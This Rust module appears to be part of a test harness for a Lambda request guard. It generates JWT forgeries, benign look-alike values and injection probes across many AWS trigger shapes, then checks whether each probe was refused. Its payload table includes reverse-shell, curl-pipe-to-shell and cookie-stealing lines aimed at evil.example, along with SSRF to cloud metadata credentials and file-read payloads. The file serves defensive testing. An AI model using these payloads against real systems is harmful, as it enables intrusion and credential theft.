//! Attack campaigns: probes (benign traffic, JWT forgeries, injection classes in every trigger's
//! input locations, cross-invocation leak probes) and how to tell from a function's answer
//! whether the guard refused a probe or it reached the handler.
//!
//! The payloads are hand-written representatives of each class (varied encodings and
//! placements), not lines of the public corpora the detectors are measured on.

use aws_lc_rs::{
    encoding::AsDer,
    hmac,
    rand::SystemRandom,
    rsa::KeySize,
    signature::{KeyPair, RsaKeyPair, RSA_PKCS1_SHA256},
};
use base64::{engine::general_purpose::URL_SAFE_NO_PAD, Engine as _};
use lambda_guard::{trigger::sample, Trigger};
use serde_json::{json, Value};
use std::time::{SystemTime, UNIX_EPOCH};

/// What a probe should meet.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Expect {
    /// Benign: must reach the handler.
    Allowed,
    /// Hostile: must be refused before the handler.
    Blocked,
}

/// One event sent at the function.
#[derive(Debug, Clone)]
pub struct Probe {
    /// Attack class (`benign`, `jwt`, `sqli`, …).
    pub class: &'static str,
    /// A short name of the variant.
    pub name: String,
    /// The trigger shape it was placed in.
    pub trigger: Trigger,
    /// What should happen.
    pub expect: Expect,
    /// The event.
    pub event: Value,
    /// For batch probes: the record id whose refusal counts as blocked.
    pub record_id: Option<String>,
    /// A unique marker carried by benign probes: seen in a later invocation's answer, it proves
    /// data crossed from one invocation to the next (a reuse leak).
    pub canary: Option<String>,
}

/// Injection payloads per class: representatives, several encodings each.
pub const INJECTIONS: &[(&str, &[&str])] = &[
    ("sqli", &[
        "1' OR '1'='1' -- ",
        "42 UNION ALL SELECT username, password FROM users--",
        "x'; DROP TABLE orders; --",
        "1 AND SLEEP(5)",
        "admin'/**/oR/**/1=1#",
        "%27%20or%201%3D1--",
    ]),
    ("nosqli", &["{\"$ne\": null}", "{\"$where\": \"sleep(100)\"}", "{\"$regex\": \".*\"}"]),
    ("xss", &[
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=fetch('//evil.example/'+document.cookie)>",
        "javascript:alert(1)",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "%3Ciframe%20src%3Djavascript%3Aalert(1)%3E",
    ]),
    ("command_injection", &[
        "report.pdf; cat /etc/passwd",
        "$(curl http://evil.example/x.sh | sh)",
        "`id`",
        "a && wget http://evil.example/m -O /tmp/m",
        "x|nc -e /bin/sh evil.example 4444",
    ]),
    ("path_traversal", &[
        "../../../../etc/passwd",
        "..%2f..%2f..%2fproc%2fself%2fenviron",
        "....//....//var/task/bootstrap",
        "%252e%252e%252fetc%252fshadow",
    ]),
    ("ssrf", &[
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://2852039166/latest/user-data",
        "http://[::ffff:169.254.169.254]/",
        "http://127.0.0.1:9001/2018-06-01/runtime/invocation/next",
        "gopher://127.0.0.1:6379/_FLUSHALL",
        "file:///proc/self/environ",
    ]),
    ("ssti", &["{{7*7}}{{config.items()}}", "${jndi:ldap://evil.example/a}", "<%= system('id') %>", "#{7*7}${T(java.lang.Runtime).getRuntime().exec('id')}"]),
    ("xxe", &["<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"]),
    ("log_injection", &["alice\r\nINFO login succeeded for admin", "bob\u{2028}level=INFO msg=\"audit cleared\""]),
    ("prototype_pollution", &["__proto__", "constructor.prototype"]),
];

/// Benign values that look a little like attacks (what a precise guard must let through).
pub const BENIGN: &[&str] = &[
    "O'Brien & Sons Ltd.",
    "Please select a union-made mug, or the blue one",
    "Delivered 3/4 of the order; drop the rest at 5th Ave",
    "C:\\Users\\Public\\Documents is where my report lives",
    "https://example.com/products?id=42&sort=price",
    "email me at ada@example.com (after 5 pm)",
    "50% off <b>this week</b> only",
    "a = b + c; // plain math",
];

/// The JSON document a function accepts (its body, message or record data), and the field
/// the payloads go into: probes must have the shape the function parses, or the handler's own
/// refusals would be counted as the guard's.
#[derive(Debug, Clone)]
pub struct Body {
    /// A JSON object the function accepts.
    pub template: Value,
    /// The string field payloads replace.
    pub field: String,
}

impl Default for Body {
    fn default() -> Body {
        Body {
            template: json!({"item": "espresso beans", "quantity": 1}),
            field: "item".to_owned(),
        }
    }
}

impl Body {
    fn with(&self, value: &str, class: &str) -> Value {
        let mut doc = self.template.clone();
        let Some(map) = doc.as_object_mut() else {
            return json!(value);
        };
        match class {
            // Pollution lives in keys.
            "prototype_pollution" => {
                map.insert(value.to_owned(), json!({"isAdmin": true}));
            }
            "nosqli" => {
                let operator = serde_json::from_str::<Value>(value).unwrap_or(json!(value));
                map.insert(self.field.clone(), operator);
            }
            _ => {
                map.insert(self.field.clone(), json!(value));
            }
        }
        doc
    }
}

/// Where a value is placed in an event of `trigger`; returns the event.
pub fn place(trigger: Trigger, value: &str, class: &str, body: &Body) -> Value {
    let mut event = sample::sample(trigger);
    let body_field = |value: &str| body.with(value, class);
    match trigger {
        Trigger::ApiGatewayHttp | Trigger::FunctionUrl | Trigger::ApiGatewayRest | Trigger::Alb => {
            event["body"] = json!(body_field(value).to_string());
            if trigger == Trigger::ApiGatewayRest || trigger == Trigger::Alb {
                event["httpMethod"] = json!("POST");
                event["path"] = json!("/orders");
                event["resource"] = json!("/orders");
            }
        }
        // An authorizer sees no body: the value is a query parameter.
        Trigger::ApiGatewayAuthorizer => {
            event["queryStringParameters"]["q"] = json!(value);
            event["multiValueQueryStringParameters"]["q"] = json!([value]);
        }
        Trigger::VpcLattice => {
            event["body"] = json!(body_field(value).to_string());
            event["method"] = json!("POST");
            event["path"] = json!("/orders");
            event["headers"]["content-type"] = json!(["application/json"]);
        }
        Trigger::Sqs => {
            event["Records"][0]["body"] = json!(body_field(value).to_string());
        }
        Trigger::Sns => {
            event["Records"][0]["Sns"]["Message"] = json!(body_field(value).to_string());
        }
        Trigger::S3 => {
            let key: String = value
                .bytes()
                .map(|b| match b {
                    b' ' => "+".to_owned(),
                    b if b.is_ascii_alphanumeric() || b"-_.~/".contains(&b) => {
                        (b as char).to_string()
                    }
                    b => format!("%{b:02X}"),
                })
                .collect();
            event["Records"][0]["s3"]["object"]["key"] = json!(key);
        }
        Trigger::DynamoDb => {
            let image = body_field(value);
            let image: serde_json::Map<String, Value> = image
                .as_object()
                .into_iter()
                .flatten()
                .map(|(k, v)| {
                    (
                        k.clone(),
                        match v {
                            Value::String(s) => json!({"S": s}),
                            Value::Number(n) => json!({"N": n.to_string()}),
                            other => json!({"S": other.to_string()}),
                        },
                    )
                })
                .collect();
            event["Records"][0]["dynamodb"]["NewImage"] = Value::Object(image);
        }
        Trigger::Kinesis => {
            let data =
                base64::engine::general_purpose::STANDARD.encode(body_field(value).to_string());
            event["Records"][0]["kinesis"]["data"] = json!(data);
        }
        Trigger::EventBridge => event["detail"] = body_field(value),
        Trigger::Firehose | Trigger::Kafka | Trigger::AmazonMq => {
            let data =
                base64::engine::general_purpose::STANDARD.encode(body_field(value).to_string());
            let at = match trigger {
                Trigger::Firehose => "/records/0/data",
                Trigger::Kafka => "/records/orders-0/0/value",
                _ => "/messages/0/data",
            };
            if let Some(slot) = event.pointer_mut(at) {
                *slot = json!(data);
            }
        }
        Trigger::CloudWatchLogs => event = sample::cloudwatch_logs(&body_field(value).to_string()),
        // No fixed shape: the document is the event.
        _ => event = body_field(value),
    }
    event
}

/// Injection probes for every class, placed in each of `triggers`.
pub fn injections(triggers: &[Trigger], body: &Body) -> Vec<Probe> {
    let mut probes = Vec::new();
    for &(class, payloads) in INJECTIONS {
        for (i, payload) in payloads.iter().enumerate() {
            let trigger = triggers[i % triggers.len()];
            probes.push(probe(
                class,
                format!("{class}#{i}"),
                trigger,
                Expect::Blocked,
                place(trigger, payload, class, body),
            ));
        }
    }
    probes
}

/// Benign probes placed in each of `triggers`.
pub fn benign(triggers: &[Trigger], body: &Body) -> Vec<Probe> {
    BENIGN
        .iter()
        .enumerate()
        .map(|(i, value)| {
            let trigger = triggers[i % triggers.len()];
            let canary = format!("cnry{:x}{i:02}", now() ^ u64::from(std::process::id()));
            let value = format!("{value} (ref {canary})");
            let event = place(trigger, &value, "benign", body);
            let mut p = probe(
                "benign",
                format!("benign#{i}"),
                trigger,
                Expect::Allowed,
                event,
            );
            p.canary = Some(canary);
            p
        })
        .collect()
}

fn probe(
    class: &'static str,
    name: String,
    trigger: Trigger,
    expect: Expect,
    event: Value,
) -> Probe {
    let record_id = match trigger {
        Trigger::Sqs => event["Records"][0]["messageId"].as_str().map(str::to_owned),
        Trigger::Kinesis => event["Records"][0]["kinesis"]["sequenceNumber"]
            .as_str()
            .map(str::to_owned),
        Trigger::DynamoDb => event["Records"][0]["dynamodb"]["SequenceNumber"]
            .as_str()
            .map(str::to_owned),
        Trigger::Firehose => event["records"][0]["recordId"].as_str().map(str::to_owned),
        _ => None,
    };
    Probe {
        class,
        name,
        trigger,
        expect,
        event,
        record_id,
        canary: None,
    }
}

fn b64(bytes: &[u8]) -> String {
    URL_SAFE_NO_PAD.encode(bytes)
}

fn now() -> u64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_secs())
        .unwrap_or(0)
}

/// Signs `header.claims` with RS256.
fn rs256(key: &RsaKeyPair, header: &Value, claims: &Value) -> String {
    let signing_input = format!(
        "{}.{}",
        b64(header.to_string().as_bytes()),
        b64(claims.to_string().as_bytes())
    );
    let mut sig = vec![0u8; key.public_modulus_len()];
    let rng = SystemRandom::new();
    if key
        .sign(&RSA_PKCS1_SHA256, &rng, signing_input.as_bytes(), &mut sig)
        .is_err()
    {
        sig.clear();
    }
    format!("{signing_input}.{}", b64(&sig))
}

fn hs256(secret: &[u8], header: &Value, claims: &Value) -> String {
    let signing_input = format!(
        "{}.{}",
        b64(header.to_string().as_bytes()),
        b64(claims.to_string().as_bytes())
    );
    let tag = hmac::sign(
        &hmac::Key::new(hmac::HMAC_SHA256, secret),
        signing_input.as_bytes(),
    );
    format!("{signing_input}.{}", b64(tag.as_ref()))
}

/// What the attacker may know or hold.
pub struct TokenContext {
    /// Expected issuer and audience (public knowledge for a given API).
    pub issuer: String,
    /// Audience.
    pub audience: String,
    /// The published JWKS document (public), for key-confusion forgeries.
    pub jwks: Option<String>,
    /// The real signing key, when the campaign runs with the owner's key (the demo), for
    /// validly signed tokens with bad claims and for the benign requests.
    pub signing_key: Option<RsaKeyPair>,
    /// The `kid` the real key is published under.
    pub kid: String,
}

impl TokenContext {
    fn claims(&self, scope: &str) -> Value {
        let now = now();
        json!({"iss": self.issuer, "aud": self.audience, "sub": "demo-user", "scope": scope,
            "iat": now, "nbf": now, "exp": now + 600})
    }

    /// A valid token with `scope`, when the key is held.
    pub fn valid(&self, scope: &str) -> Option<String> {
        let key = self.signing_key.as_ref()?;
        Some(rs256(
            key,
            &json!({"alg": "RS256", "typ": "JWT", "kid": self.kid}),
            &self.claims(scope),
        ))
    }

    /// Forged and invalid tokens, by name.
    pub fn forgeries(&self) -> Vec<(String, String)> {
        let claims = self.claims("orders:read orders:write");
        let mut out = Vec::new();
        for alg in ["none", "None", "NONE", "nOnE"] {
            let h = json!({"alg": alg, "typ": "JWT", "kid": self.kid});
            out.push((
                format!("alg:{alg}"),
                format!(
                    "{}.{}.",
                    b64(h.to_string().as_bytes()),
                    b64(claims.to_string().as_bytes())
                ),
            ));
        }
        if let Some(jwks) = &self.jwks {
            out.push((
                "rs/hs key confusion".into(),
                hs256(
                    jwks.as_bytes(),
                    &json!({"alg": "HS256", "kid": self.kid}),
                    &claims,
                ),
            ));
        }
        out.push((
            "kid injection".into(),
            hs256(
                b"",
                &json!({"alg": "HS256", "kid": "../../../../dev/null"}),
                &claims,
            ),
        ));
        out.push((
            "kid sqli".into(),
            hs256(
                b"x",
                &json!({"alg": "HS256", "kid": "x' UNION SELECT 'x'--"}),
                &claims,
            ),
        ));
        let rng = SystemRandom::new();
        if let Ok(attacker) = RsaKeyPair::generate(KeySize::Rsa2048) {
            let public = attacker.public_key();
            let jwk = json!({"kty": "RSA", "kid": self.kid, "alg": "RS256", "use": "sig",
                "n": b64(public.modulus().big_endian_without_leading_zero()),
                "e": b64(public.exponent().big_endian_without_leading_zero())});
            out.push((
                "embedded jwk".into(),
                rs256(
                    &attacker,
                    &json!({"alg": "RS256", "kid": self.kid, "jwk": jwk}),
                    &claims,
                ),
            ));
            out.push(("jku to attacker".into(), rs256(&attacker, &json!({"alg": "RS256", "kid": self.kid, "jku": "https://evil.example/jwks.json"}), &claims)));
            out.push(("x5u to attacker".into(), rs256(&attacker, &json!({"alg": "RS256", "kid": self.kid, "x5u": "https://evil.example/cert.pem"}), &claims)));
            out.push((
                "other key, same kid".into(),
                rs256(
                    &attacker,
                    &json!({"alg": "RS256", "kid": self.kid}),
                    &claims,
                ),
            ));
            let _ = attacker.as_der();
        }
        let _ = rng;
        out.push((
            "garbage".into(),
            "eyJhbGciOiJSUzI1NiJ9.bm90IGpzb24.c2ln".into(),
        ));
        out.push((
            "jwe-shaped".into(),
            "eyJhbGciOiJSU0EtT0FFUCIsImVuYyI6IkEyNTZHQ00ifQ.a.b.c.d".into(),
        ));
        out.push((
            "oversized".into(),
            format!(
                "{}.{}.{}",
                b64(b"{\"alg\":\"RS256\"}"),
                "A".repeat(20_000),
                "B".repeat(400)
            ),
        ));
        out.push(("empty signature".into(), {
            let t = self.valid("orders:read").unwrap_or_else(|| "a.b.c".into());
            let cut = t.rfind('.').map(|i| i + 1).unwrap_or(t.len());
            t[..cut].to_owned()
        }));
        if let Some(key) = &self.signing_key {
            let h = json!({"alg": "RS256", "typ": "JWT", "kid": self.kid});
            let now = now();
            let mut c = claims.clone();
            c["exp"] = json!(now - 3600);
            out.push(("expired".into(), rs256(key, &h, &c)));
            let mut c = claims.clone();
            c["exp"] = json!((now + 600).to_string());
            out.push(("string exp (CVE-2026-25537)".into(), rs256(key, &h, &c)));
            let mut c = claims.clone();
            c["iat"] = json!(now + 86_400);
            out.push(("future iat".into(), rs256(key, &h, &c)));
            let mut c = claims.clone();
            c["aud"] = json!("another-api");
            out.push(("wrong aud".into(), rs256(key, &h, &c)));
            let mut c = claims.clone();
            c["iss"] = json!("https://evil.example");
            out.push(("wrong iss".into(), rs256(key, &h, &c)));
            let mut c = claims.clone();
            c["scope"] = json!("orders:readonly orders:writer");
            out.push(("scope substring".into(), rs256(key, &h, &c)));
            let mut h2 = h.clone();
            h2["crit"] = json!(["exp-ext"]);
            out.push(("unknown crit".into(), rs256(key, &h2, &claims)));
        }
        out
    }
}

/// JWT probes: every forgery on an HTTP request of `trigger`.
pub fn jwt_probes(tokens: &TokenContext, trigger: Trigger) -> Vec<Probe> {
    let mut probes = vec![probe(
        "jwt",
        "no token".into(),
        trigger,
        Expect::Blocked,
        sample::sample(trigger),
    )];
    for (name, token) in tokens.forgeries() {
        let mut event = sample::sample(trigger);
        authorize(&mut event, &token);
        probes.push(probe("jwt", name, trigger, Expect::Blocked, event));
    }
    probes
}

/// Adds a valid bearer token to an HTTP event.
pub fn authorize(event: &mut Value, token: &str) {
    let bearer = format!("Bearer {token}");
    // VPC Lattice's version 2 lists each header's values.
    let lists = event["headers"]
        .as_object()
        .is_some_and(|h| h.values().any(Value::is_array));
    event["headers"]["authorization"] = if lists {
        json!([bearer])
    } else {
        json!(bearer)
    };
    if let Some(multi) = event
        .get_mut("multiValueHeaders")
        .and_then(Value::as_object_mut)
    {
        multi.insert("authorization".into(), json!([bearer]));
    }
}

/// For each answer after the first: whether it carries a canary of an earlier invocation.
pub fn leaks<'a>(probes: &'a [Probe], answers: &[String]) -> Vec<(&'a Probe, bool)> {
    let mut out = Vec::new();
    for (i, (probe, answer)) in probes.iter().zip(answers).enumerate().skip(1) {
        let leaked = probes[..i]
            .iter()
            .filter_map(|p| p.canary.as_deref())
            .any(|c| answer.contains(c));
        out.push((probe, leaked));
    }
    out
}

/// Whether the guard refused the probe, judged from the function's answer by the guard's public
/// refusal contract: its generic HTTP bodies, `LambdaGuard.Denied`, its `Deny` policy for an
/// authorizer, or the record in `batchItemFailures` (Firehose: its `ProcessingFailed` result).
pub fn was_blocked(probe: &Probe, response: Option<&Value>, error: Option<&Value>) -> bool {
    if error
        .and_then(|e| e.get("errorType"))
        .and_then(Value::as_str)
        == Some("LambdaGuard.Denied")
    {
        return true;
    }
    let Some(response) = response else {
        return false;
    };
    if let Some(id) = &probe.record_id {
        let failures = response["batchItemFailures"].as_array();
        let failed = failures.is_some_and(|f| f.iter().any(|i| i["itemIdentifier"] == **id));
        let results = response["records"].as_array();
        let processing_failed = results.is_some_and(|r| {
            r.iter()
                .any(|i| i["recordId"] == **id && i["result"] == "ProcessingFailed")
        });
        return failed || processing_failed;
    }
    // An authorizer's refusal: the guard's own `Deny` policy.
    if response["principalId"] == "lambda-guard" {
        return response["policyDocument"]["Statement"][0]["Effect"] == "Deny";
    }
    let status = response["statusCode"].as_u64().unwrap_or(0);
    let generic = [
        "{\"message\":\"Unauthorized\"}",
        "{\"message\":\"Forbidden\"}",
        "{\"message\":\"Bad Request\"}",
        "{\"message\":\"Payload Too Large\"}",
        "{\"message\":\"Service Unavailable\"}",
    ];
    matches!(status, 400 | 401 | 403 | 413 | 503)
        && response["body"]
            .as_str()
            .is_some_and(|b| generic.contains(&b))
}
